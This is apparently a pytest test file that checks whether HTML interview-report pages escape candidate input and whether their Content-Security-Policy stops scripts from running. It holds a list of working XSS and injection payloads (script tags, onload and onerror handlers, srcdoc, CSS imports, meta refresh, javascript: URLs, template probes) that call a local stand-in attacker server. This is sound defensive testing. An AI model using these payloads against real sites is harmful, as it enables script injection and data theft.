"""A real browser runs nothing that a candidate wrote, and requests nothing."""

from __future__ import annotations

import http.server
import os
import re
import subprocess
import threading
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from interview.reports.page_samples import CHROMIUM, hostile__index, hostile__page, page_of
from report.samples import (
    SAMPLES,
)

from archprep.interview.model import Graded

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


class _Requests(http.server.BaseHTTPRequestHandler):
    """Notes what is asked for."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        body = b"document.title = 'owned'"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def site() -> Iterator[tuple[str, list[str]]]:
    """A server of the candidate's: its address, and what was requested from it."""
    asked: list[str] = []
    handler = type("Handler", (_Requests,), {"asked": asked})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


def _opened(page: Path) -> str:
    """The document as it is after a browser has had it for a while."""
    command = [
        *(CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
        *("--virtual-time-budget=3000", f"--user-data-dir={page.parent / 'profile'}"),
        *("--dump-dom", page.as_uri()),
    ]
    environment = {"HOME": str(page.parent), "PATH": os.environ["PATH"]}
    done = subprocess.run(command, capture_output=True, timeout=120, check=True, env=environment)
    return done.stdout.decode()


def _tags(document: str) -> list[str]:
    """The elements as a browser finds them."""
    found: list[str] = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.append(tag)  # type: ignore[method-assign]
    parser.feed(document)
    return found


def _attack(site: str) -> str:
    """Everything that would run or load, once for each way in which it could."""
    act = f"document.title='owned';document.body.dataset.marker='ran';fetch('{site}/fetched')"
    return "\n".join(
        [
            f"<script>{act}</script>",
            f"<script src='{site}/script.js'></script>",
            f'"><svg onload="{act}"><image href="{site}/svg.png"/></svg>',
            f"<img src='{site}/img.png' onerror=\"{act}\">",
            f"<iframe src='{site}/frame' srcdoc='<script>{act}</script>'></iframe>",
            f"</style><style>@import '{site}/style.css'; body {{background: url({site}/bg.png)}}",
            f"</title><link rel=stylesheet href='{site}/link.css'>",
            f"<link rel=preload as=image href='{site}/preload'>",
            f"<meta http-equiv=refresh content='0;url={site}/refresh'>",
            f"<base href='{site}/'><object data='{site}/object'></object>",
            f"<video src='{site}/video' autoplay></video><audio src='{site}/audio'></audio>",
            f'</pre></dd></dl><details open ontoggle="{act}">',
            f"<form action='{site}/form'><button autofocus onfocus=\"{act}\">",
            f"javascript:{act}",
            "{{ 7*7 }} {% include 'report.css' %}",
        ]
    )


@pytest.mark.skipif(
    not CHROMIUM, reason="no Chromium here: chromium, chromium-browser, google-chrome"
)
@pytest.mark.parametrize("page", [hostile__page, hostile__index])
def test_a_browser_runs_and_requests_nothing(page, site, tmp_path: Path) -> None:
    """Its document is the one that was written, and the attacker's server gets no request."""
    address, asked = site
    written = page(_attack(address))
    (tmp_path / "page.html").write_text(written, encoding="utf-8")
    opened = _opened(tmp_path / "page.html")
    assert asked == []
    assert "data-marker" not in re.sub(r">[^<]*<", "><", opened)
    assert re.findall(r"<title>(.*?)</title>", opened) == [
        *re.findall(r"<title>(.*?)</title>", written)
    ]
    assert _tags(opened) == _tags(written)


@pytest.mark.skipif(
    not CHROMIUM, reason="no Chromium here: chromium, chromium-browser, google-chrome"
)
@pytest.mark.parametrize("policy", [True, False])
def test_the_policy_stops_what_escaping_would_miss(policy: bool, site, tmp_path: Path) -> None:
    """An unescaped attack is stopped by the policy, and does run without it."""
    address, asked = site
    document = page_of(Graded("q1", SAMPLES["mixed"])).replace(
        "<main>", f"<main>{_attack(address)}"
    )
    if not policy:
        document = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", document)
    document = re.sub(r"<meta http-equiv=refresh[^>]*>", "", document)  # a policy cannot forbid it
    (tmp_path / "page.html").write_text(document, encoding="utf-8")
    opened = _opened(tmp_path / "page.html")
    assert ("<title>owned</title>" in opened) is not policy
    assert bool(asked) is not policy
